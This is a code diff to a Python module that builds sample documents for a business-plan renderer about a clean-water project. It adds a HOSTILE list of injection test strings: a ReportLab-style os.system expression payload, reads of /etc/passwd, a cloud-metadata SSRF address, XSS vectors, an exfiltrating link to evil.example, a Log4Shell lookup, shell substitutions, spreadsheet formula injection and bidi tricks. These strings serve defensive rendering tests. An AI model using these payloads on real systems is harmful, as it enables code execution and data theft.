@@ -2,6 +2,7 @@
 
 from datetime import date
 from decimal import Decimal
+from pathlib import Path
 
 from planning.content import (
     Bar,
@@ -67,59 +68,9 @@ REFERENCES = (
 )
 
 
-SUMMARY = """Clean Water Initiative brings safe drinking water to 10,000 people in rural Turkana County within three years.
-Today a family there walks **6.2 kilometres** for water that makes its children ill; 41 % of households still drink
-from unprotected sources [S1]. We install community filtration systems that neighbours run themselves, train the
-committees that look after them, and sell water at a price that pays for spare parts and a caretaker.
-
-We ask for **USD 240,000** over 36 months. It pays for 100 filtration systems, the training of 300 committee members and
-an independent survey. From the fourth year the kiosks cover their running costs from sales; a reserve of six months
-of expenses protects them against drought years, which have become more frequent [S4].
-
-### What changes for people
-
-- **Health.** Half as many cases of water-borne disease among children under five, measured against a baseline survey in
-  the first quarter [S3].
-- **Time.** Two hours a day less spent fetching water, most of it by women and girls.
-- **Income.** 100 paid caretakers, at least sixty of them women:
-  1. chosen by the village assembly,
-  2. trained for six weeks,
-  3. paid from the sale of water, not from grants.
-
-### What we do not know yet
-
-The yield of eleven of the boreholes has not been tested since 2019. We plan with the lower value, and say in the
-risk register what happens if it is lower still [S2][S5].
-"""
-
-NEED = """The county has 926,976 inhabitants [S2]. Four in ten households depend on unprotected wells, riverbeds and vendors
-[S1]. In the dry season the price of a 20-litre jerrycan rises from five to twenty shillings, which is more than
-a herding family earns in an hour.
-
-> “We know the water is bad. We boil it when there is wood.” – member of a water committee, Lodwar
-
-Diarrhoea is the second most frequent reason for which children under five are brought to the health posts of the
-county. A review of 59 trials found that treatment at the point of use lowers the risk by a third to a half [S3];
-the effect is largest where filters are looked after by somebody who is paid to do so. That is the reason why we
-budget for caretakers before we budget for pumps.
-
-#### Who is left out so far
-
-Families who move with their animals are not counted in the plans of the county's utility. Our kiosks stand on the routes
-they use; a family pays per can and needs no connection. People with disabilities are consulted on the height of taps and
-the width of ramps, since earlier kiosks could not be used from a wheelchair.
-
-| Group | People | Source of water today | Distance |
-|:--|--:|:--|--:|
-| Settled families | 6,100 | Open wells | 2.1 km |
-| Herding families | 2,700 | Riverbeds | 6.2 km |
-| School children | 1,200 | Vendors | 0.4 km |
-
----
-
-What follows from this is set out in the next sections. The figures in them are the same everywhere because they are taken
-from one list of facts; where we had to assume something, it says so.
-"""
+HERE = Path(__file__).parent
+SUMMARY = (HERE / "summary.md").read_text(encoding="utf-8")
+NEED = (HERE / "need.md").read_text(encoding="utf-8")
 
 
 def finance() -> Table:
@@ -150,7 +101,7 @@ def finance() -> Table:
         columns,
         rows,
         totals=1,
-        note="Base case. Amounts in US dollars. Figures of the first quarter are contracted, all others are planned.",
+        note="Base case. Figures of the first quarter are contracted, all others are planned.",
     )
 
 
@@ -166,8 +117,8 @@ def risks() -> Table:
         Column("Sign that it happens", share=1.6),
     )
     rows = tuple(
-        (f"{name}", str(l), str(i), str(l * i), owner, what, sign)
-        for name, l, i, owner, what, sign in (
+        (name, str(odds), str(harm), str(odds * harm), owner, what, sign)
+        for name, odds, harm, owner, what, sign in (
             (
                 "Boreholes yield less than tested",
                 3,
@@ -406,7 +357,7 @@ CHIPS = Chips(
 def plan(**changes: object) -> Document:
     """A whole plan in English, of more than fifteen pages."""
     line, stacked, columns, monthly, share = charts()
-    long_text = "\n\n".join([NEED] * 2)
+    long_text = "\n\n".join([NEED] * 3)
     sections = (
         Section("summary", "Summary", (Prose(SUMMARY),), "model"),
         Section("need", "The need, and who lives with it", (Prose(NEED), share), "model"),
@@ -422,7 +373,7 @@ def plan(**changes: object) -> Document:
             "Milestones and schedule",
             (
                 Prose(
-                    "Every milestone has an owner and a date. The critical path is drawn in red: a day lost there is a day lost at the end."
+                    "Every milestone has an owner and a date. A day lost on the critical path is lost at the end."
                 ),
                 schedule(),
             ),
@@ -432,7 +383,7 @@ def plan(**changes: object) -> Document:
             "Three-year finances",
             (
                 Prose(
-                    "The price of a can is five shillings. All assumptions stand in the table at the end of this section."
+                    "The price of a can is five shillings. All assumptions stand at the end of this section."
                 ),
                 finance(),
                 line,
@@ -452,7 +403,7 @@ def plan(**changes: object) -> Document:
             "The next ninety days",
             (
                 Prose(
-                    "1. Open the account.\n2. Sign with the county.\n3. Order the first ten systems.\n\nEach step has a date in the schedule."
+                    "1. Open the account.\n2. Sign with the county.\n3. Order ten systems.\n\nEach has a date."
                 ),
             ),
             "embedded",
@@ -474,7 +425,105 @@ def plan(**changes: object) -> Document:
             "What did the last yield test of the eleven boreholes show, and who keeps its report?",
         ),
         "notices": (
-            "This plan was written with the help of a language model and checked by code. Figures come from one list of facts; assumptions are marked as such.",
+            "A language model helped to write this plan; its figures come from one list of facts.",
         ),
     }
     return Document(**{**document, **changes})  # type: ignore[arg-type]
+
+
+HOSTILE = (
+    '<img src="file:///etc/passwd">',
+    "<img src=http://169.254.169.254/latest/meta-data/>",
+    "<font color=\"[[[getattr(pow, Word('__globals__'))['os'].system('touch /tmp/owned')] "
+    "for Word in [orgTypeFun]] and 'red'\">x</font>",
+    "<para><onDraw name='x'/></para> <a href=\"javascript:alert(1)\">x</a> <br/> <b>",
+    '<script>alert(1)</script><svg onload=alert(1)> "><img src=x onerror=alert(1)>',
+    "![x](https://evil.example/?q=secret) [click](javascript:alert(1)) <https://evil.example/a>",
+    "{{fact:x}} %s %n {0} ${jndi:ldap://evil.example/a} `id` $(id) =cmd|' /C calc'!A0",
+    "\u202egnp.exe\u202c \u2066hidden\u2069 zero\u200bwidth tag\U000e0041 \ufeffbom",
+    "nul\x00byte bell\x07 escape\x1b[31m form\x0cfeed \x85 \ud800 half \udfff \ufffe \ufdd0",
+    "emoji 🚀✅👩‍👩‍👧 🇰🇪 and \ue000 \U0010ffff",
+    "\\documentclass{x} \\input{/etc/passwd} %PDF-1.7 endstream endobj ) Tj ET",
+    "[S1]: http://evil.example [S1](http://evil.example) [S99] [S2][S1] [S1, S2]",
+    "| a | b |\n|---|---|\n| c | d |\n\n# h1\n\n***\n\n- [ ] x\n\n    code\n\n```\nfence",
+    "x" * 3000,
+    "مشروع \u202eabc\u202c (test) 123 क्षि \u0301\u0301\u0301",
+    "]]> --> <!-- <![CDATA[ &amp; &lt; &#x0; &#60;script&#62; 'quote' \"quote\"",
+)
+
+
+def hostile(text: str) -> Document:
+    """A document with *text* in every place that has text."""
+    return Document(
+        type="business_plan",
+        title=text,
+        subtitle=text,
+        venture=text,
+        language="en",
+        currency="USD",
+        written_on=date(2026, 11, 24),
+        sections=(
+            Section(
+                text,
+                text,
+                (Prose(text), Prose(f"- {text}\n- {text}\n\n> {text}\n\n### {text}\n")),
+                "embedded",
+            ),
+            Section(
+                "blocks",
+                text,
+                (
+                    Table(
+                        text,
+                        (Column(text), Column(text, "end"), Column("c", "center")),
+                        ((text, text, text), (text,)),
+                        1,
+                        text,
+                    ),
+                    Gantt(
+                        text,
+                        (
+                            Bar(
+                                text,
+                                text,
+                                date(2027, 1, 1),
+                                date(2027, 2, 1),
+                                text,
+                                True,
+                                (text, "b"),
+                            ),
+                            Bar("b", text, date(2027, 3, 1), date(2027, 2, 1), text),
+                        ),
+                        text,
+                    ),
+                    Chart(
+                        text,
+                        "line",
+                        (text, "b"),
+                        (Series(text, (D(1), D(2))), Series(text, (D("NaN"), D("-Infinity")))),
+                        text,
+                        text,
+                    ),
+                    Chart(
+                        text,
+                        "stacked",
+                        (text,),
+                        (Series(text, (D(1), D(2))), Series(text, ())),
+                        text,
+                    ),
+                    Chart(text, "columns", (), (), "", text),
+                    Chips((Chip(6, text, text), Chip(-3, text))),
+                ),
+            ),
+        ),
+        references=(
+            Reference("S1", text, text, text, text, text),
+            Reference(
+                "S2", text, f"https://example.org/{text}", text, "2026-01-01", "", "academic"
+            ),
+            Reference("S3", text, f"javascript:{text}", text, text, text),
+        ),
+        questions=(text, text),
+        is_draft=True,
+        notices=(text,),
+    )
